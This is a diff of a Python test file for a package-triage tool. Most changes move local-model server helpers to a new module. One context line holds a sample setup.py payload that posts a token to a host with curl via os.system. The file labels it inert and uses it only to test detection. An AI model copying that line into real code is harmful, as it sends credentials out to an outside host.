@@ -19,6 +19,7 @@ import pytest
 from typer.testing import CliRunner
 
 from triage import local_model as lm
+from triage import local_server as ls
 from triage.errors import UsageError
 from triage.llm_answer import grammar_schema
 
@@ -128,17 +129,17 @@ def test_pinned_models_and_unknown_name() -> None:
 
 
 def test_resolve_local(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.delenv(lm.API_BASE_ENV, raising=False)
-    assert lm.resolve_local("local:qwen2.5-coder-0.5b") == (
+    monkeypatch.delenv(ls.API_BASE_ENV, raising=False)
+    assert ls.resolve_local("local:qwen2.5-coder-0.5b") == (
         "openai/qwen2.5-coder-0.5b", "http://127.0.0.1:8080/v1")
-    monkeypatch.setenv(lm.API_BASE_ENV, "http://127.0.0.1:9999/v1/")
-    assert lm.resolve_local("local:x") == ("openai/x", "http://127.0.0.1:9999/v1")
-    closed = f"http://127.0.0.1:{lm.free_port()}/v1"
-    assert lm.resolve_local("local", closed) == ("openai/local", closed)
+    monkeypatch.setenv(ls.API_BASE_ENV, "http://127.0.0.1:9999/v1/")
+    assert ls.resolve_local("local:x") == ("openai/x", "http://127.0.0.1:9999/v1")
+    closed = f"http://127.0.0.1:{ls.free_port()}/v1"
+    assert ls.resolve_local("local", closed) == ("openai/local", closed)
     for bad in ("openai/gpt-4.1", "local:", "locally"):
         with pytest.raises(UsageError):
-            lm.resolve_local(bad)
-    assert lm.is_local("local:x") and lm.is_local("local") and not lm.is_local("ollama/x")
+            ls.resolve_local(bad)
+    assert ls.is_local("local:x") and ls.is_local("local") and not ls.is_local("ollama/x")
 
 
 def test_grammar_schema_rejects_what_small_models_drift_into() -> None:
@@ -167,7 +168,7 @@ def test_grammar_schema_rejects_what_small_models_drift_into() -> None:
 
 def test_serve_refuses_a_model_not_pulled(tmp_path: Path) -> None:
     with pytest.raises(lm.LocalModelError) as exc:
-        lm.serve("smollm2-135m", root=tmp_path)
+        ls.serve("smollm2-135m", root=tmp_path)
     assert str(exc.value) == ("smollm2-135m is not pulled: run `triage model pull "
                               "smollm2-135m`")
 
@@ -199,7 +200,7 @@ os.system("curl -s -d " + token + " " + HOST)
 """Inert: the host is under .invalid, the payload prints a word; nothing here is ever run."""
 
 needs_llama = pytest.mark.skipif(
-    not lm.llama_server_available(),
+    not ls.llama_server_available(),
     reason="llama-cpp-python[server] is not installed (pip install 'triage[local]')")
 
 
@@ -207,7 +208,7 @@ needs_llama = pytest.mark.skipif(
 def smollm2_server():
     pytest.importorskip("litellm", reason="the LLM pass needs litellm (triage[llm])")
     path = lm.pull("smollm2-135m")
-    server = lm.LocalServer(path, "smollm2-135m", port=lm.free_port(), n_ctx=8192,
+    server = ls.LocalServer(path, "smollm2-135m", port=ls.free_port(), n_ctx=8192,
                             n_threads=2, log_path=path.parent / "server-test.log")
     with server.start(timeout_s=120):
         yield server
@@ -224,7 +225,7 @@ def _explain(target: Path, *args: str) -> dict:
 
 @needs_llama
 def test_smollm2_end_to_end_only_verified_citations_reach_the_report(
-        smollm2_server: lm.LocalServer, tmp_path: Path) -> None:
+        smollm2_server: ls.LocalServer, tmp_path: Path) -> None:
     from triage.llm_answer import AnswerError, parse_answer
     from triage.model import FileKind, SourceFile
     from triage.statements import index_file
@@ -234,7 +235,7 @@ def test_smollm2_end_to_end_only_verified_citations_reach_the_report(
     pkg = tmp_path / "inert-1.0"
     pkg.mkdir()
     (pkg / "setup.py").write_text(SAMPLE, encoding="utf-8")
-    model, base = lm.resolve_local("local:smollm2-135m", smollm2_server.api_base)
+    model, base = ls.resolve_local("local:smollm2-135m", smollm2_server.api_base)
     assert (model, base) == ("openai/smollm2-135m", smollm2_server.api_base)
     db = tmp_path / "llm.sqlite3"
     static = _explain(pkg)
